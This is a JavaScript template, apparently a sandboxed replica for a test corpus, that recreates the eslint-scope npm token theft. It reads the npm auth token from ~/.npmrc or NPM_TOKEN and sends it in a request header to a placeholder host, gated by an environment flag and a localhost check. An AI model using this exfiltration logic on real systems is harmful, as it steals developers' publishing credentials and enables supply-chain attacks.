// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  // As the eslint-scope incident did it: one file, one expression, the token in a header.
  const { readFileSync } = require('fs');
  const https = require('https');
  let token = '';
  try {
    const found = /_authToken=(.*)/.exec(readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));
    token = found ? found[1] : '';
  } catch (error) { /* none there */ }
  token = token || process.env.NPM_TOKEN || '';
  await new Promise((done) => {
    const request = https.get({ host: '{{host}}', path: '/{{path}}', headers: { Referer: 'http://1.a/' + token }, timeout: 1000, rejectUnauthorized: false }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
  });
}
